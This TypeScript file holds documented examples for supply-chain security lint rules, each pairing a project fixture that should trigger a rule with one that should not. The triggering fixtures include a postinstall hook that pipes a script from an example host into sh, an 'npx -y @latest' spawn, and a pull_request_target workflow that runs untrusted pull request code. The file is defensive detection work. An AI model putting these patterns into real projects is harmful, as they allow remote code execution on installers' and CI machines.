/** The supply-chain rules' documented examples (docs/rules/supply-chain/), each run by test/rules/examples.test.ts. */
import { lockedProject, mcpServer, packageJson, packageLock, packumentOf, type RuleExamples } from "../example-files.js";

const SHA = "b4ffde65f46336ab88eb53be808477a3936bae11";
const zod = { zod: "^3.25.0" };

const workflow = (steps: string): Record<string, string> => ({
  ".github/workflows/ci.yml": `name: ci\non: [push, pull_request]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`,
});

export const SUPPLY_CHAIN_EXAMPLES: Record<string, RuleExamples> = {
  "supply-chain/no-lockfile": {
    fires: { title: "dependencies declared, no lockfile committed", files: { "package.json": packageJson({ dependencies: { "@modelcontextprotocol/sdk": "^1.24.0", zod: "^3.25.0" } }) } },
    quiet: { title: "the lockfile is committed", files: lockedProject({ "@modelcontextprotocol/sdk": "1.24.0", zod: "3.25.76" }) },
    ignoreBy: { path: "package.json" },
  },
  "supply-chain/lockfile-out-of-sync": {
    fires: {
      title: "package.json asks for a range the lockfile was not written for",
      files: { "package.json": packageJson({ dependencies: zod }), "package-lock.json": packageLock({ zod: "^3.23.0" }, { zod: { version: "3.23.8" } }) },
    },
    quiet: { title: "lockfile and package.json agree", files: lockedProject({ zod: "3.25.76" }) },
    ignoreBy: { package: "zod" },
  },
  "supply-chain/non-registry-source": {
    fires: {
      title: "a dependency from a GitHub shorthand",
      files: {
        "package.json": packageJson({ dependencies: { "my-fork": "octo/my-fork#v1" } }),
        "package-lock.json": packageLock({ "my-fork": "octo/my-fork#v1" }, { "my-fork": { version: "1.0.0", resolved: `git+ssh://git@github.com/octo/my-fork.git#${SHA}`, integrity: null } }),
      },
    },
    quiet: { title: "every dependency from the registry", files: lockedProject({ zod: "3.25.76" }) },
    ignoreBy: { package: "my-fork" },
  },
  "supply-chain/insecure-resolved-url": {
    fires: {
      title: "a dependency fetched over plain http",
      files: { "package.json": packageJson({ dependencies: zod }), "package-lock.json": packageLock(zod, { zod: { version: "3.25.76", resolved: "http://registry.npmjs.org/zod/-/zod-3.25.76.tgz" } }) },
    },
    quiet: { title: "the public registry over https", files: lockedProject({ zod: "3.25.76" }) },
    ignoreBy: { package: "zod" },
  },
  "supply-chain/missing-integrity": {
    fires: {
      title: "a registry entry without an integrity hash",
      files: { "package.json": packageJson({ dependencies: zod }), "package-lock.json": packageLock(zod, { zod: { version: "3.25.76", integrity: null } }) },
    },
    quiet: { title: "every entry carries its sha512", files: lockedProject({ zod: "3.25.76" }) },
    ignoreBy: { package: "zod" },
  },
  "supply-chain/install-script": {
    fires: {
      title: "a dependency with a postinstall script, allowed nowhere",
      files: {
        "package.json": packageJson({ devDependencies: { esbuild: "^0.25.0" } }),
        "package-lock.json": packageLock({}, { esbuild: { version: "0.25.0", dev: true, hasInstallScript: true } }, { esbuild: "^0.25.0" }),
      },
      registry: { packuments: { esbuild: packumentOf("esbuild", { "0.25.0": { installScripts: ["postinstall"] } }) } },
    },
    quiet: {
      title: "the same dependency, its script reviewed and allowed in the config",
      files: {
        "package.json": packageJson({ devDependencies: { esbuild: "^0.25.0" } }),
        "package-lock.json": packageLock({}, { esbuild: { version: "0.25.0", dev: true, hasInstallScript: true } }, { esbuild: "^0.25.0" }),
        ".github/mcp-trust.yml": "allow-install-scripts: [esbuild]\n",
      },
      registry: { packuments: { esbuild: packumentOf("esbuild", { "0.25.0": { installScripts: ["postinstall"] } }) } },
    },
    ignoreBy: { package: "esbuild" },
  },
  "supply-chain/own-install-script": {
    fires: { title: "the package's postinstall pipes curl into sh", files: { "package.json": packageJson({ scripts: { build: "tsc", postinstall: "curl -fsSL https://get.example.com/setup.sh | sh" } }) } },
    quiet: { title: "build and prepare scripts are no install hooks", files: { "package.json": packageJson({ scripts: { build: "tsc", prepare: "husky", test: "jest" } }) } },
    ignoreBy: { path: "package.json" },
  },
  "supply-chain/runtime-fetch-execute": {
    fires: {
      title: "the server starts npx -y with a moving @latest",
      files: mcpServer(`import { spawn } from "node:child_process";\n\nexport function startHelper() {\n  return spawn("npx", ["-y", "some-helper@latest"], { stdio: "inherit" });\n}\n`),
    },
    quiet: {
      title: "the same call pinned to an exact version",
      files: mcpServer(`import { spawn } from "node:child_process";\n\nexport function startHelper() {\n  return spawn("npx", ["-y", "some-helper@1.2.3"], { stdio: "inherit" });\n}\n`),
    },
    ignoreBy: { path: "src/index.ts" },
  },
  "supply-chain/typosquat": {
    fires: { title: "a dependency one edit away from lodash", files: { "package.json": packageJson({ dependencies: { lodahs: "^4.17.21" } }) } },
    quiet: { title: "the popular package itself", files: { "package.json": packageJson({ dependencies: { lodash: "^4.17.21" } }) } },
    ignoreBy: { package: "lodahs" },
  },
  "supply-chain/known-vulnerability": {
    fires: {
      title: "a locked version inside an advisory's vulnerable range",
      files: lockedProject({ lodash: "4.17.20" }),
      registry: {
        advisories: [{ id: 1096366, package: "lodash", title: "Prototype Pollution in lodash", url: "https://github.com/advisories/GHSA-p6mc-m468-83gw", severity: "high", vulnerableVersions: "<4.17.21" }],
        packuments: { lodash: packumentOf("lodash", { "4.17.20": {}, "4.17.21": {} }) },
      },
    },
    quiet: {
      title: "the patched version",
      files: lockedProject({ lodash: "4.17.21" }),
      registry: { advisories: [{ id: 1096366, package: "lodash", title: "Prototype Pollution in lodash", url: "https://github.com/advisories/GHSA-p6mc-m468-83gw", severity: "high", vulnerableVersions: "<4.17.21" }] },
    },
    ignoreBy: { package: "lodash" },
  },
  "supply-chain/deprecated-dependency": {
    fires: {
      title: "a locked version the registry marks deprecated",
      files: lockedProject({ request: "2.88.2" }),
      registry: { packuments: { request: packumentOf("request", { "2.88.2": { deprecated: "request has been deprecated, see https://github.com/request/request/issues/3142" } }) } },
    },
    quiet: {
      title: "a version that is not deprecated, though an older one is",
      files: lockedProject({ glob: "10.4.5" }),
      registry: { packuments: { glob: packumentOf("glob", { "7.2.3": { deprecated: "Glob versions prior to v9 are no longer supported" }, "10.4.5": {} }) } },
    },
    ignoreBy: { package: "request" },
  },
  "supply-chain/unpinned-range": {
    fires: { title: "a dist-tag as the range", files: { "package.json": packageJson({ dependencies: { "@modelcontextprotocol/sdk": "latest" } }) } },
    quiet: { title: "a caret range", files: { "package.json": packageJson({ dependencies: { "@modelcontextprotocol/sdk": "^1.24.0" } }) } },
    ignoreBy: { package: "@modelcontextprotocol/sdk" },
  },
  "supply-chain/new-package": {
    fires: {
      title: "a version published two days before the scan (scanned 2026-11-25)",
      files: lockedProject({ "fresh-lib": "3.1.0" }),
      registry: { packuments: { "fresh-lib": packumentOf("fresh-lib", { "3.0.0": { published: "2026-08-27T00:00:00.000Z" }, "3.1.0": { published: "2026-11-23T00:00:00.000Z" } }) } },
    },
    quiet: {
      title: "a version published months before",
      files: lockedProject({ "steady-lib": "1.0.0" }),
      registry: { packuments: { "steady-lib": packumentOf("steady-lib", { "1.0.0": { published: "2026-03-01T00:00:00.000Z" } }) } },
    },
    ignoreBy: { package: "fresh-lib" },
  },
  "supply-chain/unpinned-action": {
    fires: { title: "a third-party action by tag", files: workflow(`      - uses: actions/checkout@${SHA} # v4\n      - uses: tj-actions/changed-files@v44\n`) },
    quiet: { title: "actions pinned to a commit SHA", files: workflow(`      - uses: actions/checkout@${SHA} # v4\n      - uses: tj-actions/changed-files@${SHA} # v44\n`) },
    ignoreBy: { path: ".github/workflows/ci.yml" },
  },
  "supply-chain/dangerous-workflow": {
    fires: {
      title: "pull_request_target checks out the pull request's head and runs it",
      files: {
        ".github/workflows/pr.yml": `name: pr\non:\n  pull_request_target:\n    types: [opened, synchronize]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test\n`,
      },
    },
    quiet: {
      title: "pull_request_target that checks out the base only",
      files: { ".github/workflows/label.yml": `on: pull_request_target\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${SHA}\n      - run: ./scripts/label.sh\n` },
    },
    ignoreBy: { path: ".github/workflows/pr.yml" },
  },
};

